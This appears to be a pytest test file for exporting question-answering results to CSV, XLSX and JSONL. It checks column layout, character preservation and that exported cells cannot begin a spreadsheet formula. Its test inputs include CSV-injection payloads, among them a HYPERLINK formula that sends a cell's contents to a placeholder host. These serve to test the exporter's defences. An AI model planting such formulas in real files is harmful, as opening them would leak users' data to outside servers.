"""Answers in spreadsheets: every fact in its column, every character kept, and nothing that runs."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import load_workbook

from qa.answering.render import to_json
from qa.answering.tables import COLUMNS, WRITERS, in_csv, original, write_answers, writer_for
from qa.errors import UsageError
from qa.types import Answer, Place, Source, Span
from tests.helpers import hits_of
from tests.page.fake_qa import FakeQA, document_of

WHAT = "How much did it cost?"
ONE, TWO = "310,000 euros", "340,000 euros"
DDE = '=HYPERLINK("http://beacon.invalid/"&A1,"paid")'
WICKED = [
    DDE, "+1+2", "-3.2 %", "@SUM(A1)", "\t=1", "\r=1", " \u200b=1", "\uff1d1", "'=1", "''=1", "'s Morgens",
    f'said;{DDE}', f'said;"{DDE}', f"said\n{DDE}", "said\r\n\t;\" '=1", "a - b = c", "plain",
]  # fmt: skip


def object_of(quote: str, **facts: Any) -> dict[str, Any]:
    """The public object of a question with one answer."""
    qa = FakeQA([document_of("a.txt", f"Head\n\nIt is: {quote} So it is.", "A", "2024-03-13")], {})
    qa.answers["Who?"] = [("a.txt", f"It is: {quote}", quote)]
    return {**to_json(qa.ask("Who?"), 7), **facts}


def written(answers: list[dict[str, Any]], ending: str) -> bytes:
    stream = io.BytesIO()
    WRITERS[ending](answers, stream)
    return stream.getvalue()


def table(data: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def test_a_row_an_answer_with_every_fact() -> None:
    qa = FakeQA(
        [
            document_of("one.txt", f"It cost {ONE}.", "One", "2024-03-13", (0, 5)),
            document_of("two.txt", f"It cost {TWO}.", "Two"),
            document_of("copy.txt", f"They say {ONE}."),
        ],
        {WHAT: [(name, f"It cost {cost}.", cost) for name, cost in (("one.txt", ONE), ("two.txt", TWO))]},
    )
    qa.speakers["one.txt"] = "Anna"
    qa.changed = frozenset({"one.txt"})
    restricted = {**to_json(qa.ask("Who?"), "q2"), "within": {"documents": ["one.txt"], "since": "2024-01-01"}}
    rows = table(written([to_json(qa.ask(WHAT), "q1"), restricted], ".csv"))
    assert tuple(rows[0]) == COLUMNS
    first, second, none = (dict(zip(COLUMNS, row, strict=True)) for row in rows[1:])
    assert first == {
        "question": WHAT, "answered": "true", "confidence": "0.93", "quote": ONE,
        "sentence": f"It cost {ONE}.", "speaker": "Anna", "document": "one.txt", "page": "2",
        "date": "2024-03-13", "start": "8", "end": "21", "sha256": qa.documents["one.txt"].source.sha256,
        "also": "copy.txt 9-22", "time": "", "stale": "true", "disagrees": "true", "within": "", "id": "q1",
        "change": "", "problem": "",
    }  # fmt: skip
    assert (second["quote"], second["stale"], second["disagrees"]) == (TWO, "false", "true")
    assert {name: value for name, value in none.items() if value} == {
        "question": "Who?", "answered": "false", "confidence": "0.12", "id": "q2",
        "within": "documents: one.txt; since: 2024-01-01",
    }  # fmt: skip


def test_what_may_be_an_answer_is_not_called_one() -> None:
    sure = object_of("22:37")
    row = table(written([{**sure, "answered": False, "answers": [], "perhaps": sure["answers"][0]}], ".csv"))[1]
    assert (row[COLUMNS.index("answered")], row[COLUMNS.index("quote")]) == ("perhaps", "22:37")


@pytest.mark.parametrize("quote", WICKED)
def test_no_cell_of_a_csv_begins_a_formula_however_it_is_split(quote: str) -> None:
    data = written([object_of(quote.strip())], ".csv")
    texts = [cell for row in table(data) for cell in row]
    elsewhere = [cell for row in table(data, ";") for cell in row]  # where lists are separated by semicolons
    blind = re.split(r"[;\t\r\n]", data.decode("utf-8-sig"))  # by what does not know of quotation marks
    begun = re.compile(r"[\s\u200b\"]*[=+@\uff1d-]")
    assert [cell for cell in (*texts, *elsewhere, *blind) if begun.match(cell)] == []
    assert quote.strip() in [original(cell) for cell in texts]


@given(st.text(st.sampled_from("'=+-@;\t\n\r \"\u200b\uff1das")))
@example("'")
def test_what_was_made_harmless_is_given_back(text: str) -> None:
    safe = in_csv(text)
    assert isinstance(safe, str)
    assert original(safe) == text
    assert not re.search(r"(\A|[;\t\n\r])[\s\"\u200b]*[=+@\uff1d-]", safe)


ODD = [
    "\x0b\x00\x1f",
    "_x0041_ and _x000D_",
    "a\r\nb\rc",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\ufffe",
]


@pytest.mark.parametrize("quote", [*WICKED, *ODD])
def test_a_sheet_keeps_every_character_as_text(quote: str) -> None:
    data = written([object_of(quote, question=quote)], ".xlsx")
    (row,) = list(load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2))  # type: ignore[union-attr]
    cells = dict(zip(COLUMNS, row, strict=True))
    assert [name for name, cell in cells.items() if cell.data_type not in "snb"] == []  # no formula, no error
    assert {cells[name].quotePrefix for name in ("question", "quote", "document")} == {True}
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    texts = ["".join(it.itertext()) for it in ElementTree.fromstring(sheet).iter() if it.tag.endswith("}is")]
    unescaped = [re.sub(r"_x([0-9A-F]{4})_", lambda sign: chr(int(sign[1], 16)), text) for text in texts]
    assert unescaped[len(COLUMNS)] == quote  # as the format's rules say, which openpyxl does not follow when it reads


def test_a_cell_holds_no_more_than_a_spreadsheet_takes_and_says_so() -> None:
    data = written([object_of("x", question="\U0001f600" * 40_000)], ".xlsx")
    text = load_workbook(io.BytesIO(data)).active["A2"].value  # type: ignore[union-attr]
    assert len(text.encode("utf-16-le")) // 2 <= 32_767
    assert text.endswith("(cut: a cell holds no more)")


def test_lines_of_json_hold_the_public_objects() -> None:
    answers = [object_of("=1", question="half \ud800"), object_of("two\u2028lines")]
    lines = written(answers, ".jsonl").split(b"\n")
    assert lines.pop() == b""
    assert [json.loads(line)["answers"] for line in lines] == [one["answers"] for one in answers]


def test_a_file_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    def broken() -> Any:
        yield object_of("x")
        raise OSError("the disk is full")

    with pytest.raises(OSError, match="full"):
        write_answers(broken(), tmp_path / "a.csv", tmp_path / "part")
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(UsageError, match=r"a\.ods: answers are written as \.csv, \.xlsx, \.jsonl"):
        writer_for("a.ods")


def test_many_places_that_say_the_same_are_all_named() -> None:
    hit = hits_of("The gate was closed by hand.")[0]
    also = tuple(Place(Source(f"{n}.txt", "", "", "", None), n, n + 1) for n in range(50))
    span = Span(hit, 0, 8, 0, 28, 0.9, also)
    rows = table(written([to_json(Answer("Who?", 0.9, (span,), (hit,)))], ".csv"))
    assert rows[1][COLUMNS.index("also")].count(".txt") == 50
